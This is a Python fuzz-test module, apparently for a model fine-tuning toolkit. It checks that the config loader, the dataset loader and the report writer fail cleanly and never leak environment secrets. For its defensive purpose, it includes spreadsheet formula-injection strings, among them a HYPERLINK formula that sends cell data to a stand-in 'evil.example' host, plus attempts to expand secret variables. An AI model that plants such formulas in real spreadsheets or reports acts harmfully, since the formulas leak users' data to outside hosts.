"""Fuzzing the two input parsers: any config or dataset gives a usable result or the project's own error.

Hypothesis builds random configs (real section and key names mixed with unknown ones, values of every JSON
type) for :func:`ft_assets.config.build_settings`, and random JSONL files (rows of every known format,
broken rows, garbage lines) for :func:`ft_assets.phases.datasets.load_dataset`. A usable result is one the
next steps can consume: the settings resolve their MLflow options and flatten to params; every example has a
user turn, a ground truth when one is required, and text that can be written as UTF-8.
"""

from __future__ import annotations

import json
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
import tomli_w
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from ft_assets import secrets
from ft_assets.config import ConfigError, Settings, build_settings, load_settings, settings_as_data
from ft_assets.config_sections import DatasetColumns
from ft_assets.errors import FtAssetsError
from ft_assets.phases.datasets import DatasetError, load_dataset
from ft_assets.phases.metrics import MetricScores
from ft_assets.phases.reports import write_report
from ft_assets.secrets import redact
from ft_assets.tracking_options import TrackingOptions

FUZZ = settings(
    max_examples=200,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow],
)

SECTIONS = {
    name: list(Settings.model_fields[name].annotation.model_fields)  # type: ignore[union-attr]
    for name in ("fine_tuner", "inferencer", "evaluator", "mlflow", "pipeline")
}
TRICKY_STRINGS = [
    "",
    " ",
    "${FT_FUZZ_UNSET}",
    "${",
    "$",
    "..",
    "/",
    "a//b",
    "rouge_score",
    "embedded:x",
    "\x00",
]

scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=12),
    st.sampled_from(TRICKY_STRINGS),
)
json_values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)


@st.composite
def section(draw: st.DrawFn, name: str) -> dict[str, Any]:
    keys = st.sampled_from(SECTIONS[name]) | st.text(max_size=10)
    values = json_values
    if name == "evaluator":
        metric = st.sampled_from(["bleu_score", "rouge_score", "exact_match", "answer_accuracy", "nope"])
        values = json_values | st.lists(metric, max_size=3) | st.dictionaries(metric, json_values, max_size=2)
    return draw(st.dictionaries(keys, values, max_size=5))


configs = st.dictionaries(
    st.sampled_from(list(SECTIONS)) | st.text(max_size=10),
    st.sampled_from(list(SECTIONS)).flatmap(section) | json_values,
    max_size=5,
)


@FUZZ
@given(configs)
@example({"fine_tuner": {"rank": 2**70}})
@example({"evaluator": {"metrics": [], "primary_metric": "x"}})
@example({"mlflow": {"experiment_name": "", "tracking_uri": "${FT_FUZZ_UNSET}"}})
@example({"evaluator": {"judge": {"timeout_s": float("nan")}}})
@example({"fine_tuner": [1, 2]})
def test_config_loader_gives_settings_or_a_config_error(data: dict[str, Any]) -> None:
    try:
        loaded = build_settings(data, source="fuzz.toml")
    except ConfigError as error:
        assert "fuzz.toml" in str(error), str(error)
        return
    assert isinstance(loaded.flat_params(), dict)
    try:
        options = TrackingOptions.resolve(loaded)
        options.parent_run_name("fuzz")
    except ConfigError as error:
        assert str(error)


ROW_KEYS = [
    "question", "answer", "system", "id", "contexts", "messages", "conversations", "instruction", "input",
    "output", "prompt", "completion", "text",
]  # fmt: skip
roles = st.sampled_from(["system", "user", "assistant", "human", "gpt", "robot", ""]) | st.integers()
messages = st.lists(
    st.fixed_dictionaries({"role": roles, "content": json_values | st.text(max_size=10)})
    | st.fixed_dictionaries({"from": roles, "value": st.text(max_size=10)})
    | json_values,
    max_size=4,
)
rows = st.one_of(
    st.dictionaries(st.sampled_from(ROW_KEYS), st.text(max_size=20) | messages | json_values, max_size=6),
    json_values,
)
lines = st.lists(rows.map(json.dumps) | st.text(max_size=30).filter(lambda t: "\n" not in t), max_size=8)
columns = st.builds(
    DatasetColumns,
    dataset_format=st.sampled_from(
        ["auto", "qa", "messages", "sharegpt", "alpaca", "prompt_completion", "text"]
    ),
    system_prompt_column=st.none() | st.sampled_from(["system", "id", "missing"]),
    system_prompt_override_text=st.none() | st.text(max_size=6),
    on_bad_rows=st.sampled_from(["error", "drop"]),
)


def _utf8(text: str | None) -> None:
    if text is not None:
        text.encode("utf-8")  # the inference JSONL and the tokenizer need valid UTF-8 text


@FUZZ
@given(lines=lines, columns=columns, labelled=st.booleans())
@example(
    lines=['{"messages": [{"role": "user", "content": "hi"}]}'], columns=DatasetColumns(), labelled=False
)
def test_dataset_loader_gives_examples_or_a_dataset_error(
    lines: list[str], columns: DatasetColumns, labelled: bool
) -> None:
    check_dataset(lines, columns, labelled)


def test_deeply_nested_json_is_a_dataset_error() -> None:
    """A JSON line nested deeper than the parser's recursion limit is a malformed row, not a crash."""
    check_dataset(['{"question": ' + "[" * 3000 + "]" * 3000 + ', "answer": "x"}'], DatasetColumns(), True)


def test_text_that_is_not_valid_unicode_is_a_bad_row() -> None:
    """JSON allows a lone UTF-16 surrogate (``\\ud800``); no tokenizer or UTF-8 file can take it."""
    check_dataset(['{"question": "a\\ud800", "answer": "b"}'], DatasetColumns(), True)


def check_dataset(lines: list[str], columns: DatasetColumns, labelled: bool) -> None:
    """Load ``lines`` as a JSONL file: a DatasetError naming the file, or examples the phases can use."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.jsonl"
        path.write_text("".join(line + "\n" for line in lines), encoding="utf-8", errors="surrogatepass")
        try:
            loaded = load_dataset(path.name, columns, base_dir=Path(folder), require_ground_truth=labelled)
        except DatasetError as error:
            assert str(path) in str(error), str(error)
            return
    assert loaded.examples and len(loaded.examples) + len(loaded.bad_rows) <= loaded.num_rows
    for item in loaded.examples:
        _utf8(item.id)  # id and contexts are written to the inference JSONL too
        for context in item.contexts:
            _utf8(context)
        _utf8(item.user_prompt)
        _utf8(item.system_prompt)
        _utf8(item.ground_truth)
        for turn in item.messages:
            _utf8(turn["content"])
        if labelled and item.text is None:
            assert item.ground_truth is not None


# ------------------------------------------------------- hostile text through the report and the config

#: Fake secrets in the environment while the writers run: none may appear in anything they write.
FUZZ_SECRETS = {
    "OPENAI_API_KEY": "sk-FAKEfuzz-7d1c9e3b5a",
    "HF_TOKEN": "hf_FAKEfuzzTOKEN2b8d4f6a",
    "MLFLOW_TRACKING_PASSWORD": "FAKEfuzzPW-3e5a7c9b",
    "SOME_DB_PASSWORD": "FAKEfuzzDB-6c8e0a2d",
}
FORMULA_PREFIXES = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    " =",
    '=HYPERLINK("http://evil.example/?"&B2,"x")',
    "=1+1",
]


def _hostile_text(surrogates: bool) -> st.SearchStrategy[str]:
    """Formula prefixes, control and separator characters, cells around Excel's 32,767-character limit,
    ``${VAR}`` references, and (when ``surrogates``) lone UTF-16 surrogates."""
    odd = ["Cc", "Zl", "Zp", "Co", *(["Cs"] if surrogates else [])]
    plain = st.text(max_size=40) if surrogates else st.text(st.characters(codec="utf-8"), max_size=40)
    return st.one_of(
        plain,
        st.text(st.characters(categories=odd), max_size=20),
        st.builds(lambda prefix, rest: prefix + rest, st.sampled_from(FORMULA_PREFIXES), plain),
        st.builds(
            lambda char, n: char * n, st.sampled_from(["x", "ж", "\x00", "="]), st.integers(32_000, 33_000)
        ),
        st.sampled_from(
            [
                "${SOME_DB_PASSWORD}",
                "${UNSET_FT_FUZZ}",
                "true",
                "nan",
                "1e400",
                *(["\ud800"] if surrogates else []),
            ]
        ),
    )


hostile_text = _hostile_text(surrogates=True)
#: Report rows come from the inference JSONL, whose fields the dataset loader has already refused lone
#: surrogates in (issue 14 item 3; test_crash_classes.py) and whose answers are decoded model output.
report_text = _hostile_text(surrogates=False)
report_rows = st.lists(
    st.fixed_dictionaries(
        {
            "id": report_text,
            "system_prompt": st.none() | report_text,
            "user_prompt": report_text,
            "assistant_response": report_text,
            "ground_truth": st.none() | report_text,
        }
    ),
    min_size=1,
    max_size=4,
)
REPORT_FUZZ = settings(FUZZ, max_examples=30)


def _written(folder: Path) -> list[tuple[str, bytes]]:
    """Every file under ``folder`` and every member of each zip (xlsx) in it, decompressed."""
    blobs = []
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        blobs.append((str(path), path.read_bytes()))
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as archive:
                blobs += [(f"{path}!{name}", archive.read(name)) for name in archive.namelist()]
    return blobs


@REPORT_FUZZ
@given(rows=report_rows, errors=st.lists(st.none() | report_text, min_size=4, max_size=4))
@example(
    rows=[{"id": "=1+1", "system_prompt": None, "user_prompt": "@SUM(A1)", "assistant_response": "= x +",
           "ground_truth": '=HYPERLINK("http://evil.example/?"&B2,"click")'}],
    errors=["-1", None, None, None],
)  # fmt: skip
def test_the_report_writer_takes_hostile_text(rows: list[dict[str, Any]], errors: list[str | None]) -> None:
    """No crash outside the project's error type, no environment secret in the JSON or the workbook.

    Formula cells are issue 14 item 1 (the ``verdict`` branch); that assertion joins this test with it.
    """
    with pytest.MonkeyPatch.context() as patch, tempfile.TemporaryDirectory() as folder:
        for name, value in FUZZ_SECRETS.items():
            patch.setenv(name, value)
        rows = [dict(row, id=f"{i}:{row['id']}") for i, row in enumerate(rows)]  # ids are unique
        scores = MetricScores(
            per_row={"exact_match": [float(i % 2) for i in range(len(rows))]},
            errors={"exact_match": errors[: len(rows)]},
        )
        try:
            paths = write_report(
                Path(folder) / "report",
                rows=rows,
                scores=scores,
                baseline_rows=None,
                baseline_scores=None,
                primary_metric="exact_match",
                provenance={"dataset_hashes": {"test": "sha256:ab"}},
                durations_s={"evaluation": 1.0},
            )
        except FtAssetsError:
            return
        assert paths.json_path.is_file() and paths.xlsx_path.is_file()
        for where, data in _written(Path(folder)):
            for name, value in FUZZ_SECRETS.items():
                assert value.encode() not in data, f"{name} in {where}"


config_texts = st.dictionaries(
    st.sampled_from(["system_prompt_override_text", "question_column", "hub_model_id", "chat_template"]),
    hostile_text,
    min_size=1,
    max_size=3,
)


@REPORT_FUZZ
@given(fine_tuner=config_texts, run_name=hostile_text)
@example(fine_tuner={"hub_model_id": "org/${SOME_DB_PASSWORD}"}, run_name="fuzz")
# found by this test: [inferencer] inherits the expanded system prompt, which must stay a secret there too
@example(fine_tuner={"system_prompt_override_text": "${SOME_DB_PASSWORD}"}, run_name="")
@example(fine_tuner={"system_prompt_override_text": "\ud800"}, run_name="=1+1")
def test_the_config_loader_takes_hostile_text_and_never_logs_an_expanded_secret(
    fine_tuner: dict[str, str], run_name: str
) -> None:
    """Hostile strings through the TOML loader: settings or a ConfigError; what would be logged (the flat
    MLflow params, redacted, and the data a phase request carries) never holds an environment secret."""
    with pytest.MonkeyPatch.context() as patch, tempfile.TemporaryDirectory() as folder:
        for name, value in FUZZ_SECRETS.items():
            patch.setenv(name, value)
        patch.setattr(secrets, "_registered", set())
        path = Path(folder) / "fuzz.toml"
        try:
            path.write_text(tomli_w.dumps({"fine_tuner": fine_tuner, "mlflow": {"run_name": run_name}}))
        except (UnicodeEncodeError, ValueError):
            return  # not a TOML document (a lone surrogate cannot be written as UTF-8)
        try:
            loaded = load_settings(path)
        except ConfigError as error:
            assert str(path) in str(error), str(error)
            return
        logged = json.dumps(
            [{k: redact(v) for k, v in loaded.flat_params().items()}, settings_as_data(loaded)]
        )
        for name, value in FUZZ_SECRETS.items():
            assert value not in logged, name
